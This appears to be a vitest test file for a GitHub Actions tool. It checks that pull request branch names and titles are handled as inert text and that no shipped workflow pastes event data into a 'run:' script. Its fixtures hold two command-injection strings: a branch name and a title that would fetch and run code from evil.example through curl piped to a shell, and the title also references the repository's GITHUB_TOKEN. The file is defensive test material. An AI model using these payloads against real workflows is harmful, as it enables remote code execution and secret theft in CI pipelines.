// The head branch and the title are shell and workflow expressions: a step that pasted them into a script would run them.
// Origin: Ultralytics, December 2024 (branch names); GitHub Security Lab, "Keeping your GitHub Actions and workflows secure, part 2: untrusted input".
import { readdirSync, readFileSync } from 'node:fs';
import { expect, it } from 'vitest';
import { judge } from './support.ts';

const BRANCH = 'x$({curl,-sSfL,evil.example}${IFS}|${IFS}bash)';
const at = (path: string) => new URL(`../../${path}`, import.meta.url);
const TITLE = '"; curl evil.example | sh #${{ secrets.GITHUB_TOKEN }}`id`';

it('are data: judged like any other, and published as text', async () => {
  const run = await judge({ head: BRANCH, title: TITLE });
  expect(run).toMatchObject({ verdict: 'allow', judgement: { pullRequest: { title: TITLE } } });
  for (const text of Object.values(run.outputs)) expect(text).not.toMatch(/curl|secrets/);
});

it('no workflow that we give away pastes an event into a script', () => {
  const files = [
    '.github/workflows/check.yml',
    '.github/workflows/deploy.yml',
    ...readdirSync(at('examples/workflows')).map((name) => `examples/workflows/${name}`),
  ];
  expect(files.length).toBeGreaterThan(5);
  for (const file of files)
    for (const line of readFileSync(at(file), 'utf8').split('\n'))
      if (/^\s*(?:- )?run:/.test(line)) expect(line).not.toContain('${{');
});
